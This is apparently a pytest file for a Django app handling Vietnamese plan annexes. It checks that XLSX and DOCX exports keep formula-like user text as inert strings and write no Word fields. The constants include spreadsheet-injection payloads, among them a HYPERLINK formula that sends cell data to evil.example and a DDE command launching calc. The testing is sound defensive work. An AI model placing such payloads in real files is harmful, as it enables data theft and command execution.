"""Every workbook parindex writes keeps user text as text: a task imported as "=HYPERLINK(...)"
or "@SUM(1)" comes out as a string cell no spreadsheet runs, with exactly its text, and the
"- " bullets of Vietnamese annexes still round-trip (export → import: every task unchanged).
The Word report writes text runs only, never a field."""

import datetime
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from docx import Document

from plans.files.export import plan_export_xlsx
from plans.files.responses import attachment_disposition
from plans.importing.pipeline import annex_import
from plans.models import Assignment, Plan, Task
from tests.downloads import fetch_file

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
AT_SUM = "@SUM(1)"
PLUS = "+84 912 345 678 gọi để xác nhận"
BULLETS = "- Rà soát quy trình nội bộ;\n- Công khai kết quả trên Cổng thông tin điện tử"
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = {HYPERLINK, AT_SUM, PLUS, BULLETS, DDE}


def annex_bytes() -> bytes:
    """An annex as people send it, with the hostile texts stored as text cells."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Phụ lục"
    rows = [
        ["PHỤ LỤC"],
        [f"(Kèm theo Kế hoạch số 12/KH-UBND ngày 10/01/{TODAY.year} của UBND tỉnh Bắc Kạn)"],
        [],
        ["TT", "Nhiệm vụ, giải pháp", "Kết quả, sản phẩm", "Cơ quan chủ trì", "Thời gian"],
        ["I", "Cải cách thủ tục hành chính"],
        ["1", HYPERLINK, AT_SUM, "Sở Tư pháp", f"{TODAY - datetime.timedelta(days=3):%d/%m/%Y}"],
        ["2", BULLETS, PLUS, "Sở Tư pháp", "Thường xuyên"],
        ["3", DDE, "Báo cáo", "Sở Tài chính", f"Quý I/{TODAY.year}"],
    ]
    for values in rows:
        sheet.append(values)
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # as Excel stores typed text, not as a formula
    sheet.merge_cells("B5:E5")
    sheet["A5"].font = sheet["B5"].font = openpyxl.styles.Font(bold=True)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def import_annex(data: bytes, bac_kan, *, year=TODAY.year):
    report = annex_import(
        data=data, file_name="phu-luc.xlsx", province=bac_kan, plan_number="12/KH-UBND", year=year
    )
    assert report.ok, report.errors
    return report


@pytest.fixture
def plan(bac_kan) -> Plan:
    import_annex(annex_bytes(), bac_kan)
    plan = Plan.objects.get(number="12/KH-UBND")
    assert set(plan.tasks.values_list("description", flat=True)) == {HYPERLINK, BULLETS, DDE}
    # The first task is overdue, so the Word report lists it by name.
    assert Task.objects.get(description=HYPERLINK).due_on < TODAY
    return plan


def string_cells(content: bytes) -> dict[str, openpyxl.cell.Cell]:
    """Every cell holding one of the hostile texts, by its text (a workbook reopened in full
    mode, so styles are read)."""
    sheets = openpyxl.load_workbook(io.BytesIO(content)).worksheets
    found = {}
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in DANGEROUS:
                    found[cell.value] = cell
    return found


def assert_text_cells(content: bytes, expected: set[str]):
    cells = string_cells(content)
    assert set(cells) == expected  # the exact text, no apostrophe or prefix added
    for text, cell in cells.items():
        assert cell.data_type == "s", (text, cell.data_type)
        if text.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, text  # stays text even when someone edits the cell
    # And no formula anywhere in the file's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_plan_export_writes_hostile_text_as_text_and_reimports_unchanged(plan, bac_kan):
    content = plan_export_xlsx(plan)
    assert_text_cells(content, DANGEROUS)
    again = import_annex(content, bac_kan)
    assert again.tasks == {
        "created": 0,
        "updated": 0,
        "moved": 0,
        "restored": 0,
        "unchanged": 3,
        "withdrawn": 0,
    }
    assert Task.objects.get(number="2", plan=plan).description == BULLETS


def test_task_list_export_writes_hostile_text_as_text(client, plan, reviewer):
    client.force_login(reviewer)
    response = fetch_file(client, reverse("plans:task_export"))
    assert_text_cells(response.body, {HYPERLINK, BULLETS, DDE})


def test_report_workbook_writes_hostile_text_as_text(client, plan, reviewer):
    client.force_login(reviewer)
    url = reverse("plans:report_download", args=[f"plan-{plan.pk}", f"{TODAY.year}-Y", "xlsx"])
    response = fetch_file(client, url)
    assert_text_cells(response.body, {HYPERLINK, BULLETS, DDE})


def test_report_document_holds_the_text_and_no_field(client, plan, reviewer):
    client.force_login(reviewer)
    url = reverse("plans:report_download", args=[f"plan-{plan.pk}", f"{TODAY.year}-Y", "docx"])
    response = fetch_file(client, url)
    paragraphs = [p.text for p in Document(io.BytesIO(response.body)).paragraphs]
    assert any(HYPERLINK in text for text in paragraphs)
    with zipfile.ZipFile(io.BytesIO(response.body)) as archive:
        body = archive.read("word/document.xml")
    # Fields (HYPERLINK, DDEAUTO...) are <w:fldSimple> or <w:fldChar>/<w:instrText> in Word.
    assert b"fldSimple" not in body and b"instrText" not in body and b"fldChar" not in body


def test_control_characters_do_not_break_any_export(client, plan, reviewer):
    """Text pasted from Word carries vertical tabs; XML cannot hold them, the exports must
    still be written (the tab becomes a line break)."""
    task = Task.objects.get(plan=plan, number="3")
    task.description = "Dòng một\x0bdòng hai\x01"
    task.save()
    client.force_login(reviewer)
    responses = [
        fetch_file(client, reverse("plans:task_export")),
        fetch_file(client, reverse("plans:plan_export", args=[plan.pk])),
        *(
            fetch_file(
                client,
                reverse(
                    "plans:report_download",
                    args=[f"province-{plan.province_id}", f"{TODAY.year}-Y", extension],
                ),
            )
            for extension in ("xlsx", "docx")
        ),
    ]
    assert [r.status_code for r in responses] == [200, 200, 200, 200]
    descriptions = {
        c.value
        for sheet in openpyxl.load_workbook(io.BytesIO(responses[0].body)).worksheets
        for row in sheet.iter_rows()
        for c in row
    }
    assert "Dòng một\ndòng hai" in descriptions
    assert Assignment.objects.filter(task=task).exists()


def test_plan_export_name_with_vietnamese_letters_is_a_valid_header(client, plan, reviewer):
    plan.number = "12/KH-ĐTTH"
    plan.save()
    client.force_login(reviewer)
    response = fetch_file(client, reverse("plans:plan_export", args=[plan.pk]))
    disposition = response["Content-Disposition"]
    disposition.encode("ascii")  # no raw non-ASCII bytes in the header
    # The name is ASCII a person reads: Đ is D, the slash a dash.
    assert disposition == (
        f'attachment; filename="ke-hoach-12-kh-dtth-nam-{plan.year}.xlsx"; '
        f"filename*=UTF-8''ke-hoach-12-kh-dtth-nam-{plan.year}.xlsx"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_a_vietnamese_file_name_is_a_valid_header():
    disposition = attachment_disposition("Báo cáo Đà Nẵng.xlsx")
    disposition.encode("ascii")
    assert disposition == (
        'attachment; filename="Bao cao Da Nang.xlsx"; '
        "filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20%C4%90%C3%A0%20N%E1%BA%B5ng.xlsx"
    )
